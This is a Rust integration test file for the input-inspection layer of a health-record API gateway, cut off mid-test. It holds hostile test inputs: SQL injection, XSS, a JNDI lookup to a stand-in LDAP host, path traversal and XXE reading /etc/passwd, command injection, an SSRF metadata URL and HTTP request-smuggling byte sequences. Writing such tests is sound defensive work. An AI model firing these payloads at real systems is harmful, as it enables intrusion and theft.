#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design
//! Input inspection through the real gateway (R-WAF-1): attacks in the query, headers, cookies
//! and bodies are refused before anything reaches the upstream, whatever their encoding; a
//! FHIR resource with a narrative and Japanese text passes untouched; `detect` mode forwards
//! and records; exclusions lift one class on one route; and the evaluation tool runs the
//! shared corpora.

mod support;

use std::path::PathBuf;

use support::*;

const EXTRA: &str = r#"
[[routes]]
id = "records"
methods = ["GET", "POST", "PUT"]
path = "/records/{*rest}"
upstream = "backend"
category = "public"
anonymous = true

[[routes]]
id = "watched"
methods = ["GET", "POST"]
path = "/watched/{*rest}"
upstream = "backend"
category = "public"
anonymous = true
inspect = "detect"

[[routes]]
id = "search"
methods = ["GET"]
path = "/search/{*rest}"
upstream = "backend"
category = "public"
anonymous = true
inspect_exclude = ["sqli"]
"#;

async fn setup() -> Harness {
    Harness::start(EXTRA).await
}

#[tokio::test(flavor = "multi_thread")]
async fn attacks_are_refused_before_the_upstream_in_every_place_r_waf_1() {
    let s = setup().await;
    let json = ("content-type", "application/fhir+json");
    // (method, path, headers, body)
    type Case<'a> = (&'a str, &'a str, &'a [(&'a str, &'a str)], &'a str);
    let cases: &[Case<'_>] = &[
        ("GET", "/records/x?q=1%27%20OR%20%271%27%3D%271", &[], ""),
        // Twice percent-encoded, and full-width: folded to what a backend sees.
        (
            "GET",
            "/records/x?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
            &[],
            "",
        ),
        (
            "GET",
            "/records/x?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)",
            &[],
            "",
        ),
        (
            "GET",
            "/records/x",
            &[("user-agent", "${${lower:j}ndi:ldap://e.example/a}")],
            "",
        ),
        (
            "GET",
            "/records/x",
            &[("cookie", "theme=../../../../etc/passwd")],
            "",
        ),
        (
            "GET",
            "/records/x",
            &[("user-agent", "sqlmap/1.8#stable (https://sqlmap.org)")],
            "",
        ),
        ("GET", "/records/x?user=admin)(%7C(password%3D*", &[], ""),
        ("GET", "/records/x?user__password__startswith=a", &[], ""),
        // Another site's bare address (a remote include), a bracket name PHP reads otherwise,
        // a parameter smuggled on a new line.
        ("GET", "/records/x?src=https://evil.example/", &[], ""),
        ("GET", "/records/x?foo[1]a[2]=bar", &[], ""),
        ("GET", "/records/x?a=test%0Anext=more", &[], ""),
        (
            "GET",
            "/records/x?url=http://169.254.169.254/latest/meta-data/",
            &[],
            "",
        ),
        (
            "POST",
            "/records/x",
            &[json],
            r#"{"note":"<img src=x onerror=alert(1)>"}"#,
        ),
        (
            "POST",
            "/records/x",
            &[json],
            r#"{"filter":{"$where":"this.a == 1"}}"#,
        ),
        (
            "POST",
            "/records/x",
            &[("content-type", "application/x-www-form-urlencoded")],
            "cmd=%3B%20cat%20notes.txt",
        ),
        (
            "POST",
            "/records/x",
            &[("content-type", "application/xml")],
            r#"<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#,
        ),
    ];
    for (method, path, headers, body) in cases {
        let reply = s.send(method, path, headers, body).await;
        assert_eq!(
            reply.status, 403,
            "{method} {path} {headers:?} {body}: {reply:?}"
        );
        assert_eq!(reply.json()["reason"], "inspect.blocked");
        let record = s.record(&reply);
        assert_eq!(record["reason"], "inspect.blocked");
        assert!(
            !record["rules"].as_array().unwrap().is_empty(),
            "the record names the rule: {record}"
        );
    }
    assert!(
        s.upstream.requests().is_empty(),
        "an attack reached the upstream"
    );
}

/// A session id in the query (CRS 943110, 943120): planted from another site, or from
/// nowhere, it is refused before the upstream; in a link followed within the site (the
/// `Referer` names the request's own host, `localhost` here) it is forwarded.
#[tokio::test(flavor = "multi_thread")]
async fn a_session_id_in_the_query_is_refused_unless_followed_within_the_site() {
    let s = setup().await;
    let path = "/records/login?jsessionid=74B0CB414BD77D17B5680A6386EF1666";
    for referer in [
        Some("http://www.attackersite.com/test"),
        Some("https://localhost.attackersite.com/"),
        None,
    ] {
        let headers: Vec<(&str, &str)> = referer.map(|r| ("referer", r)).into_iter().collect();
        let reply = s.send("GET", path, &headers, "").await;
        assert_eq!(reply.status, 403, "{referer:?}: {reply:?}");
        assert_eq!(s.record(&reply)["rules"][0], "session-110");
    }
    assert!(s.upstream.requests().is_empty(), "a fixation was forwarded");
    let reply = s
        .send("GET", path, &[("referer", "https://localhost/test")], "")
        .await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(s.upstream.requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_fhir_resource_with_a_narrative_and_japanese_text_passes_untouched() {
    let s = setup().await;
    let resource = serde_json::json!({
        "resourceType": "MedicationRequest",
        "text": {"status": "generated", "div": "<div xmlns=\"http://www.w3.org/1999/xhtml\"><p>ロキソプロフェン 60mg 1日3回 毎食後</p><table><tr><td>7日分</td></tr></table></div>"},
        "note": [{"text": "胃の不快感があれば中止; 医師に相談してください (O'Brien 先生)"}],
        "dosageInstruction": [{"text": "１回１錠　１日３回"}],
        "subject": {"reference": "Patient/p-001"}
    })
    .to_string();
    let reply = s
        .send(
            "PUT",
            "/records/MedicationRequest/m-1",
            &[("content-type", "application/fhir+json; charset=utf-8")],
            &resource,
        )
        .await;
    assert_eq!(reply.status, 200, "{reply:?}");
    assert_eq!(
        reply.body,
        format!(
            "upstream-ok /records/MedicationRequest/m-1 {}",
            resource.len()
        )
    );
    // The same narrative with a script in it is refused.
    let hostile = resource.replace("<table>", "<script>alert(1)</script><table>");
    let reply = s
        .send(
            "PUT",
            "/records/MedicationRequest/m-1",
            &[("content-type", "application/fhir+json")],
            &hostile,
        )
        .await;
    assert_eq!(reply.json()["reason"], "inspect.blocked");
}

/// A FHIR attachment's base64, wrapped as MIME wraps it, is bytes: forwarded whole, its
/// encoding not read as text; anything else in a `data` field, and a serialized Java
/// object sent as base64, is still refused (docs/decisions.md, 2026-11-27).
#[tokio::test(flavor = "multi_thread")]
async fn a_binary_with_base64_data_is_forwarded_and_text_in_data_is_refused() {
    use base64::Engine as _;
    let s = setup().await;
    let bytes: Vec<u8> = (0u32..48_000).map(|i| (i * 7_919 % 251) as u8).collect();
    let encoded = base64::engine::general_purpose::STANDARD.encode(&bytes);
    let wrapped: Vec<&str> = encoded
        .as_bytes()
        .chunks(76)
        .map(|line| std::str::from_utf8(line).unwrap())
        .collect();
    let binary = |data: &str| {
        serde_json::json!({"resourceType": "Binary", "contentType": "image/jpeg", "data": data})
            .to_string()
    };
    let json = [("content-type", "application/fhir+json")];
    for data in [encoded.clone(), wrapped.join("\r\n")] {
        let resource = binary(&data);
        let reply = s.send("POST", "/records/Binary", &json, &resource).await;
        assert_eq!(reply.status, 200, "{reply:?}");
        assert_eq!(
            reply.body,
            format!("upstream-ok /records/Binary {}", resource.len())
        );
    }
    for hostile in [
        "1' OR '1'='1",
        "../../../../etc/passwd",
        "<script>alert(1)</script>",
        "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9u",
    ] {
        let reply = s
            .send("POST", "/records/Binary", &json, &binary(hostile))
            .await;
        assert_eq!(reply.status, 403, "{hostile}: {reply:?}");
        assert_eq!(reply.json()["reason"], "inspect.blocked", "{hostile}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn detect_mode_forwards_and_records_and_exclusions_lift_one_class() {
    let s = setup().await;
    let reply = s
        .send(
            "GET",
            "/watched/x?q=%3Cscript%3Ealert(1)%3C/script%3E",
            &[],
            "",
        )
        .await;
    assert_eq!(reply.status, 200);
    let record = s.record(&reply);
    assert_eq!(record["decision"], "allow");
    assert!(
        rules(&record).iter().any(|r| r.starts_with("xss-")),
        "{record}"
    );
    // On /search SQL-looking text is allowed (excluded), other classes are not.
    let sql = s
        .send(
            "GET",
            "/search/x?q=1%20union%20select%20name%20from%20t",
            &[],
            "",
        )
        .await;
    assert_eq!(sql.status, 200, "{sql:?}");
    let xss = s.send("GET", "/search/x?q=%3Cscript%3E", &[], "").await;
    assert_eq!(xss.json()["reason"], "inspect.blocked");
    // What the exclusion excuses cannot hide what it does not: nine SQL injections (more
    // than the eight findings a request keeps) before a script.
    let many: Vec<String> = (0..9).map(|i| format!("a{i}=%27+or+1%3D1--")).collect();
    let masked = format!(
        "/search/x?{}&z=%3Cscript%3Ealert(1)%3C/script%3E",
        many.join("&")
    );
    let reply = s.send("GET", &masked, &[], "").await;
    assert_eq!(reply.status, 403, "{reply:?}");
    assert!(
        rules(&s.record(&reply))
            .iter()
            .all(|r| r.starts_with("xss-")),
        "only the script is kept"
    );
    // A body the gateway reads whole is bounded (limits.max_body_bytes, 1 MiB by default).
    let big = format!("{{\"note\": \"{}\"}}", "a".repeat(1024 * 1024));
    let reply = s
        .send(
            "POST",
            "/records/x",
            &[("content-type", "application/json")],
            &big,
        )
        .await;
    assert_eq!(reply.status, 413);
    assert_eq!(reply.json()["reason"], "protocol.body_too_large");
}

/// A method override would make the backend run a method the gateway did not route or
/// authorise; a compressed body could not be inspected; an EBCDIC body would read otherwise
/// to the backend; a request line in a value or a line break in the path splits a request
/// downstream: refused before the upstream hears of them (R-WAF-3). Without them, the same
/// requests pass.
#[tokio::test(flavor = "multi_thread")]
async fn method_overrides_and_uninspectable_bodies_are_refused_r_waf_3() {
    let s = setup().await;
    let form = ("content-type", "application/x-www-form-urlencoded");
    // (path, headers, body, the refusing rule)
    type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], &'a str, &'a str);
    let cases: &[Case<'_>] = &[
        ("/records/a?_method=DELETE", &[], "", "protocol-100"),
        ("/records/b", &[form], "_method=PUT&name=x", "protocol-100"),
        (
            "/records/c",
            &[("x-http-method-override", "DELETE")],
            "",
            "protocol-101",
        ),
        (
            "/records/c2",
            &[("x-original-url", "/admin/users")],
            "",
            "protocol-102",
        ),
        // What CGI, WSGI and Rack servers read as `X-HTTP-Method-Override`.
        (
            "/records/c3",
            &[("x_http_method_override", "DELETE")],
            "",
            "protocol-101",
        ),
        // Two types: the body would be read as one here and as the other upstream.
        (
            "/records/c4",
            &[
                ("content-type", "text/plain"),
                ("content-type", "application/json"),
            ],
            r#"{"__proto__": {"admin": true}}"#,
            "protocol-240",
        ),
        (
            "/records/d",
            &[form, ("content-encoding", "gzip")],
            "x=1",
            "protocol-110",
        ),
        (
            "/records/e",
            &[(
                "content-type",
                "application/x-www-form-urlencoded; charset=ibm037",
            )],
            "x=1",
            "protocol-120",
        ),
        (
            "/records/f",
            &[("range", "bytes=1-2,3-4,5-6,7-8,9-10,11-12")],
            "",
            "protocol-130",
        ),
        (
            "/records/k?x=a%0aGET%20/%20HTTP/1.1",
            &[],
            "",
            "protocol-140",
        ),
        ("/records/l%0Abar", &[], "", "protocol-150"),
        (
            "/records/m",
            &[("cookie", "$Version=1; s=\"a; PHPSESSID=b\"")],
            "",
            "protocol-160",
        ),
        // The request's own method reaches inspection: on a POST, `_method=GET` is an
        // override too (a GET's `_method=POST` is the same test the other way round).
        ("/records/n?_method=GET", &[], "", "protocol-100"),
        (
            "/records/o",
            &[("content-type", "text/plain; charset=\"UTF-8\"; garbage")],
            "x",
            "protocol-170",
        ),
        // A response directive in a request, and a coding no one registered.
        (
            "/records/q",
            &[("cache-control", "private")],
            "",
            "protocol-220",
        ),
        (
            "/records/r",
            &[("accept-encoding", "foobar")],
            "",
            "protocol-190",
        ),
    ];
    for (path, headers, body, rule) in cases {
        let reply = s.send("POST", path, headers, body).await;
        assert_eq!(reply.status, 403, "{path}: {reply:?}");
        assert_eq!(reply.json()["reason"], "inspect.blocked");
        assert_eq!(rules(&s.record(&reply)), [*rule], "{path}");
    }
    assert!(
        s.upstream.requests().is_empty(),
        "a refused request was forwarded"
    );
    let fine: &[Case<'_>] = &[
        ("/records/g?method=card", &[], "", ""),
        (
            "/records/h",
            &[(
                "content-type",
                "application/x-www-form-urlencoded; charset=UTF-8",
            )],
            "x=1",
            "",
        ),
        ("/records/i", &[("content-encoding", "identity")], "", ""),
        ("/records/j", &[("range", "bytes=0-1023")], "", ""),
        ("/records/p?_method=post", &[], "", ""),
        (
            "/records/s",
            &[
                ("cache-control", "no-cache, no-store, must-revalidate"),
                ("accept-encoding", "gzip;q=1.0, identity; q=0.5, *;q=0"),
            ],
            "",
            "",
        ),
    ];
    for (path, headers, body, _) in fine {
        let reply = s.send("POST", path, headers, body).await;
        assert_eq!(reply.status, 200, "{path}: {reply:?}");
    }
}

#[test]
fn exclusions_name_known_rules_or_classes() {
    let dir = tempfile::tempdir().unwrap();
    let pki = TestPki::new(dir.path(), "server");
    let bad = "inspect_exclude = [\"sqli-999\"]";
    let extra = format!(
        "\n[[routes]]\nid = \"r\"\nmethods = [\"GET\"]\npath = \"/r\"\nupstream = \"backend\"\ncategory = \"public\"\nanonymous = true\n{bad}\n"
    );
    let text = policy(&pki, 8443, 8081, "", &extra);
    let line = text.lines().position(|l| l == bad).unwrap() + 1;
    assert_policy_error(
        dir.path(),
        &text,
        line,
        "`sqli-999` is not an inspection rule id",
    );
}

fn corpus(name: &str) -> Option<PathBuf> {
    let shared = std::env::var_os("PHR_SHARED")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared"));
    let path = shared.join("corpora/waf").join(name);
    if path.exists() {
        Some(path)
    } else {
        eprintln!("skipped: corpus not found at {}", path.display());
        None
    }
}

/// The measured floors on the shared corpora (docs/inspect.md): a change that lowers one fails
/// here. Not the issue's goals, which are not all met yet.
#[test]
fn the_evaluation_tool_meets_the_measured_floors_on_the_shared_corpora() {
    let (Some(crs), Some(libinjection), Some(fhir)) = (
        corpus("crs.jsonl"),
        corpus("libinjection.jsonl"),
        corpus("fhir-benign.jsonl"),
    ) else {
        return;
    };
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_phr-gateway"))
        .args(["inspect", "eval", "--format", "json"])
        .args([&fhir, &libinjection, &crs])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let rate = |class: &str| {
        let c = &report["classes"][class];
        let tp = c["tp"].as_f64().unwrap();
        tp / (tp + c["fn"].as_f64().unwrap())
    };
    assert!(rate("sqli") >= 0.96, "{}", report["classes"]["sqli"]);
    assert!(rate("xss") >= 0.96, "{}", report["classes"]["xss"]);
    assert!(rate("jndi") >= 0.95, "{}", report["classes"]["jndi"]);
    for (class, floor) in [
        ("lfi", 0.95),
        ("prototype-pollution", 0.95),
        ("ssrf", 0.95),
        ("rfi", 0.95),
        ("ldapi", 0.95),
        ("orm-injection", 0.95),
        ("scanner", 0.95),
        ("java", 0.95),
        ("nodejs", 0.95),
        ("session-fixation", 0.95),
        ("multipart", 0.95),
        ("php", 0.95),
        ("rce", 0.95),
        ("protocol-attack", 0.94),
        ("protocol", 0.85),
    ] {
        assert!(
            rate(class) >= floor,
            "{class}: {}",
            report["classes"][class]
        );
    }

    // Zero false positives on the FHIR benign set: a PHR gateway must pass a patient's record.
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_phr-gateway"))
        .args(["inspect", "eval", "--format", "json"])
        .arg(&fhir)
        .output()
        .unwrap();
    let fhir_report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(fhir_report["total"]["fp"], 0, "{fhir_report}");
    // The JSON-body throughput is reported (its value is docs/inspect.md's, not a test's).
    for measure in ["json_body_mb_per_s", "json_body_warm_mb_per_s"] {
        assert!(
            fhir_report[measure].as_f64().is_some_and(|v| v > 0.0),
            "{measure}: {fhir_report}"
        );
    }
    assert!(fhir_report["total"]["tn"].as_u64().unwrap() >= 900);
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_heads_are_refused_each_with_its_own_code_r_waf_3() {
    let limits = "\n[limits]\nmax_uri_bytes = 200\nmax_query_params = 5\nmax_headers = 12\nmax_header_bytes = 2000\n";
    let s = Harness::start(&format!("{limits}{EXTRA}")).await;
    let long = format!("/records/{}", "a".repeat(200));
    let params = "/records/x?a=1&b=2&c=3&d=4&e=5&f=6";
    let many: Vec<(String, String)> = (0..12).map(|i| (format!("x-h{i}"), "v".into())).collect();
    let many: Vec<(&str, &str)> = many.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
    let big = "b".repeat(2000);
    for (path, headers, status, reason) in [
        (long.as_str(), vec![], 414, "protocol.uri_too_long"),
        (params, vec![], 400, "protocol.too_many_parameters"),
        ("/records/x", many, 431, "protocol.too_many_headers"),
        (
            "/records/x",
            vec![("x-big", big.as_str())],
            431,
            "protocol.headers_too_large",
        ),
    ] {
        let reply = s.send("GET", path, &headers, "").await;
        assert_eq!(reply.status, status, "{path}: {reply:?}");
        assert_eq!(reply.json()["reason"], reason);
    }
    assert!(s.upstream.requests().is_empty());
    // At the limits, served.
    let at = format!("/records/{}", "a".repeat(150));
    assert_eq!(s.send("GET", &at, &[], "").await.status, 200);
    assert_eq!(
        s.send("GET", "/records/x?a=1&b=2&c=3&d=4&e=5", &[], "")
            .await
            .status,
        200
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_json_or_xml_body_nested_too_deep_is_refused_r_waf_3() {
    let s = Harness::start(&format!("\n[limits]\nmax_json_depth = 8\n{EXTRA}")).await;
    let json = [("content-type", "application/fhir+json")];
    let deep = format!("{}1{}", "[".repeat(9), "]".repeat(9));
    let reply = s.send("POST", "/records/deep", &json, &deep).await;
    assert_eq!(reply.status, 400, "{reply:?}");
    assert_eq!(reply.json()["reason"], "protocol.json_too_deep");
    assert_eq!(s.record(&reply)["reason"], "protocol.json_too_deep");
    assert!(
        s.upstream.requests().is_empty(),
        "a deep body was forwarded"
    );
    // At the limit, and brackets inside strings, pass.
    let ok = format!("{}\"[[[[[[[[[[\"{}", "[".repeat(8), "]".repeat(8));
    let reply = s.send("POST", "/records/ok", &json, &ok).await;
    assert_eq!(reply.status, 200, "{reply:?}");

    // An XML body's elements are held to the same bound, with their own code.
    let xml = [("content-type", "application/fhir+xml")];
    let deep = format!("{}{}", "<a>".repeat(9), "</a>".repeat(9));
    let reply = s.send("POST", "/records/deep-xml", &xml, &deep).await;
    assert_eq!(reply.status, 400, "{reply:?}");
    assert_eq!(reply.json()["reason"], "protocol.xml_too_deep");
    assert_eq!(s.record(&reply)["reason"], "protocol.xml_too_deep");
    assert!(s
        .upstream
        .requests()
        .iter()
        .all(|r| r.path != "/records/deep-xml"));
    let ok = format!("{}<b/>{}", "<a>".repeat(7), "</a>".repeat(7));
    let reply = s.send("POST", "/records/ok-xml", &xml, &ok).await;
    assert_eq!(reply.status, 200, "{reply:?}");
}

/// Smuggling shapes sent as raw bytes over TLS (R-WAF-3): what pingora's parser refuses
/// before any gateway step (answered in the gateway's words all the same:
/// `protocol.unparsable_head`), what the gateway refuses after it (with its code), and the
/// legal spellings of chunked framing that must still pass. Nothing refused reaches the
/// upstream.
#[tokio::test(flavor = "multi_thread")]
async fn smuggling_shapes_sent_as_raw_bytes_are_refused_r_waf_3() {
    let s = setup().await;
    const HEAD: &str =
        "POST /records/x HTTP/1.1\r\nHost: localhost\r\nContent-Type: text/plain\r\n";
    // (what follows the Host line, the reason code when the gateway's own, else pingora's)
    let refused: &[(&str, Option<&str>)] = &[
        ("Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", None),
        ("Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n", None),
        ("Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n", None),
        (
            "Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
            Some("protocol.unsupported_transfer_encoding"),
        ),
        (
            "Transfer-Encoding: chunked\r\n\r\n-5\r\nhello\r\n0\r\n\r\n",
            Some("protocol.malformed_body"),
        ),
        (
            "Transfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n",
            Some("protocol.malformed_body"),
        ),
        (
            "Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff1\r\nhello\r\n0\r\n\r\n",
            Some("protocol.malformed_body"),
        ),
        (
            "Transfer-Encoding: chunked\r\n\r\n3\r\nhello\r\n0\r\n\r\n",
            Some("protocol.malformed_body"),
        ),
        (
            "Transfer-Encoding: chunked\r\n\r\n5\nhello\n0\n\n",
            Some("protocol.malformed_body"),
        ),
        // A bare LF hides a header from a proxy that splits lines only on CRLF.
        (
            "X-A: a\nContent-Length: 5\r\n\r\nhello",
            Some("protocol.bare_line_feed"),
        ),
        (
            "X-B: b\rContent-Length: 0\r\nContent-Length: 5\r\n\r\nhello",
            None,
        ),
        ("Content-Length: 0x5\r\n\r\nhello", None),
        (
            "Content-Length: 5, 5\r\n\r\nhello",
            Some("protocol.duplicate_content_length"),
        ),
        (" Content-Length: 5\r\n\r\nhello", None),
    ];
    let mut cases: Vec<(String, Option<&str>)> = refused
        .iter()
        .map(|(rest, reason)| (format!("{HEAD}{rest}"), *reason))
        .collect();
    cases.push((
        "POST /records/x HTTP/1.1\nHost: localhost\nContent-Length: 5\n\nhello".into(),
        Some("protocol.bare_line_feed"),
    ));
    cases.push((
        "POST /records/x HTTP/1.0\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".into(),
        None,
    ));
    // A body on GET (a backend that ignores it reads it as the next request) and a Host a
    // virtual-host router would read otherwise.
    for (raw, reason) in [
        (
            "GET /records/x HTTP/1.1\r\nHost: localhost\r\nContent-Length: 33\r\n\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n",
            "protocol.body_not_allowed",
        ),
        (
            "GET /records/x HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
            "protocol.body_not_allowed",
        ),
        (
            "GET /records/x HTTP/1.1\r\nHost: localhost%00\r\n\r\n",
            "protocol.invalid_host",
        ),
        (
            "GET /records/x HTTP/1.1\r\nHost: \r\n\r\n",
            "protocol.invalid_host",
        ),
        // No Host on HTTP/1 (RFC 9112 section 3.2), 1.0 too; a fragment no client sends.
        ("GET /records/x HTTP/1.1\r\n\r\n", "protocol.invalid_host"),
        ("GET /records/x HTTP/1.0\r\n\r\n", "protocol.invalid_host"),
        (
            "GET /records/x#tag HTTP/1.1\r\nHost: localhost\r\n\r\n",
            "protocol.invalid_target",
        ),
    ] {
        cases.push((raw.into(), Some(reason)));
    }
    // Two Hosts: pingora's parser refuses them itself (the gateway's check stands behind it).
    cases.push((
        "GET /records/x HTTP/1.1\r\nHost: localhost\r\nHost: admin.internal\r\n\r\n".into(),
        None,
    ));
    // A request line with another version than HTTP/1.0 or 1.1, or none: pingora's parser
    // refuses it (`inspect eval` counts a case with such a `version` as `protocol-version`).
    for version in [
        "HTTP/4.0",
        "HTTP/0.9",
        "HTTP/0.8",
        "JUNK/1.0",
        "1.1",
        "TEST",
        "HTTP\\1.0",
        "",
    ] {
        cases.push((
            format!("GET /records/x {version}\r\nHost: localhost\r\n\r\n"),
            None,
        ));
    }
    let mut answered_by_pingora = Vec::new();
    for (raw, reason) in &cases {
        let answer = raw_exchange(s.gateway.port, &s.pki.ca_der, raw.as_bytes())
            .await
            .expect("exchange");
        assert!(answer.starts_with("HTTP/1.1 400"), "{raw:?}: {answer}");
        // pingora's own answer never goes out: its banner, no problem body, no HSTS.
        assert!(!answer.contains("Pingora"), "{raw:?}: {answer}");
        assert!(
            answer.contains("strict-transport-security: max-age=31536000")
                || answer.contains("Strict-Transport-Security: max-age=31536000"),
            "{raw:?}: {answer}"
        );
        let reason = reason.unwrap_or("protocol.unparsable_head");
        assert!(
            answer.contains(&format!("\"reason\":\"{reason}\"")),
            "{raw:?}: {answer}"
        );
        if reason == "protocol.unparsable_head" {
            answered_by_pingora.push(request_id_of(&answer));
        }
    }
    // The answer to HEAD has no body to carry the reason: the status says it.
    let raw = "HEAD /records/x HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\n\r\nhello";
    let answer = raw_exchange(s.gateway.port, &s.pki.ca_der, raw.as_bytes())
        .await
        .expect("exchange");
    assert!(answer.starts_with("HTTP/1.1 400"), "{raw:?}: {answer}");
    assert!(!answer.contains("Pingora"), "{raw:?}: {answer}");
    assert!(
        s.upstream.requests().is_empty(),
        "a smuggling shape reached the upstream"
    );
    // What pingora's parser refused, no gateway hook having run, is in the audit trail too
    // (R-LOG-1): one record each, under the request id its answer carried, none for the
    // gateway's own refusals.
    assert!(answered_by_pingora.len() >= 10, "{answered_by_pingora:?}");
    let unparsable = s.records_with_reason("protocol.unparsable_head", answered_by_pingora.len());
    assert_eq!(unparsable.len(), answered_by_pingora.len());
    let mut recorded: Vec<String> = unparsable
        .iter()
        .map(|r| r["request_id"].as_str().unwrap_or_default().to_owned())
        .collect();
    recorded.sort();
    answered_by_pingora.sort();
    assert_eq!(recorded, answered_by_pingora);
    for record in &unparsable {
        assert_eq!(
            (
                record["status"].as_u64(),
                record["decision"].as_str(),
                record["client"].as_str(),
                record["tls"].as_str(),
                record["method"].as_str(),
            ),
            (
                Some(400),
                Some("refuse"),
                Some("127.0.0.1"),
                Some("TLSv1.3"),
                Some("")
            ),
            "{record}"
        );
    }
    // A GET that says its body is empty is no GET with a body.
    let raw = "GET /records/x HTTP/1.1\r\nHost: localhost:8443\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
    let answer = raw_exchange(s.gateway.port, &s.pki.ca_der, raw.as_bytes())
        .await
        .expect("exchange");
    assert!(answer.starts_with("HTTP/1.1 200"), "{raw:?}: {answer}");
    // A body whose type a backend would have to guess: 415, with its code, before any byte
    // goes upstream.
    for raw in [
        "POST /records/untyped HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\n\r\nhello",
        "PUT /records/untyped HTTP/1.1\r\nHost: localhost\r\nContent-Type: \r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n",
    ] {
        let answer = raw_exchange(s.gateway.port, &s.pki.ca_der, raw.as_bytes())
            .await
            .expect("exchange");
        assert!(answer.starts_with("HTTP/1.1 415"), "{raw:?}: {answer}");
        assert!(
            answer.contains("\"reason\":\"protocol.content_type_missing\""),
            "{raw:?}: {answer}"
        );
    }
    // A POST with no content carries nothing to guess about, whether it says `Content-Length:
    // 0` or, as hyper and curl send it, nothing.
    for raw in [
        "POST /records/empty HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        "POST /records/empty HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
    ] {
        let answer = raw_exchange(s.gateway.port, &s.pki.ca_der, raw.as_bytes())
            .await
            .expect("exchange");
        assert!(answer.starts_with("HTTP/1.1 200"), "{raw:?}: {answer}");
    }
    let forwarded: Vec<_> = s.upstream.requests().into_iter().map(|r| r.path).collect();
    assert!(
        !forwarded.iter().any(|p| p == "/records/untyped"),
        "an untyped body went upstream: {forwarded:?}"
    );
    assert_eq!(
        forwarded.iter().filter(|p| *p == "/records/empty").count(),
        2,
        "{forwarded:?}"
    );
    // Optional whitespace, case and chunk extensions are legal: forwarded, body intact.
    for rest in [
        "Transfer-Encoding: chunked \r\n",
        "Transfer-Encoding:\tchunked\r\n",
        "Transfer-Encoding: Chunked\r\n",
    ] {
        let raw = format!("{HEAD}{rest}Connection: close\r\n\r\n5 ;ext=1\r\nhello\r\n0\r\n\r\n");
        let answer = raw_exchange(s.gateway.port, &s.pki.ca_der, raw.as_bytes())
            .await
            .expect("exchange");
        assert!(answer.starts_with("HTTP/1.1 200"), "{raw:?}: {answer}");
        assert!(answer.ends_with("upstream-ok /records/x 5"), "{answer}");
    }
}

/// `rfi-160` judges a bare address in the query against the request's own site. An HTTP/2
/// client names that site in `:authority` and need not send `Host`: its own address passes
/// there as it does over HTTP/1.1, and another site's is still refused.
/// The `X-Request-Id` of a raw answer.
fn request_id_of(answer: &str) -> String {
    answer
        .lines()
        .take_while(|line| !line.is_empty())
        .find_map(|line| {
            let (name, value) = line.split_once(':')?;
            name.eq_ignore_ascii_case("x-request-id")
                .then(|| value.trim().to_owned())
        })
        .unwrap_or_else(|| panic!("no request id: {answer}"))
}

/// `CONNECT` asks the gateway for a tunnel, which a reverse proxy in front of a PHR API never
/// opens: refused by the gateway's first step, over HTTP/1 and HTTP/2, answered and recorded
/// as every refusal (R-WAF-3, R-LOG-1, R-TLS-3). pingora would refuse it itself, before any
/// hook and without either; the server lets it through to the gateway's steps.
#[tokio::test(flavor = "multi_thread")]
async fn connect_is_refused_recorded_and_hardened_over_http1_and_http2() {
    let s = setup().await;
    let mut answers = Vec::new();
    for raw in [
        "CONNECT upstream.internal:443 HTTP/1.1\r\nHost: upstream.internal:443\r\n\r\n",
        "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254:80\r\nContent-Length: 5\r\n\r\nhello",
        // A request after it on the same connection is the tunnel's bytes, never read as one.
        "CONNECT a:443 HTTP/1.1\r\nHost: a:443\r\n\r\nGET /records/x HTTP/1.1\r\nHost: localhost\r\n\r\n",
    ] {
        let answer = raw_exchange(s.gateway.port, &s.pki.ca_der, raw.as_bytes())
            .await
            .expect("exchange");
        assert!(answer.starts_with("HTTP/1.1 405"), "{raw:?}: {answer}");
        assert_eq!(answer.matches("HTTP/1.1 ").count(), 1, "{answer}");
        let head = answer.to_ascii_lowercase();
        for expected in [
            "\"reason\":\"protocol.connect_refused\"",
            "strict-transport-security: max-age=31536000",
            "connection: close",
            "\r\nallow: \r\n",
        ] {
            assert!(head.contains(expected), "{expected}: {answer}");
        }
        assert!(!head.contains("pingora"), "{answer}");
        answers.push(request_id_of(&answer));
    }
    let h2 = Client::open(
        s.gateway.port,
        client_config(&s.pki.ca_der, &[&rustls::version::TLS13], &[b"h2"]),
    )
    .await
    .expect("h2 connection")
